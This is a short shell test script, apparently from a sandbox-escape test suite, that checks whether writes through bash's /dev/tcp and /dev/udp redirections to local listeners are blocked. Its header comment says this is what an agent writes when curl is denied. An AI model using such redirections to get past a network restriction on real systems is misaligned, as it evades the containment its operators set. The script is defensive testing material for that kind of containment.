# Tries: bash's /dev/tcp and /dev/udp redirections to the host listeners (what an
# agent writes when curl is denied). Stops it: network namespace, socket filter.
. ./escape_lib.sh
start net_bash_devtcp
if (echo PWNED-devtcp > "/dev/tcp/127.0.0.1/$TCP_PORT") 2>/dev/null; then echo "devtcp write returned success"; else blocked "/dev/tcp" "refused"; fi
if (echo PWNED-devudp > "/dev/udp/127.0.0.1/$UDP_PORT") 2>/dev/null; then echo "devudp write returned success"; else blocked "/dev/udp" "refused"; fi
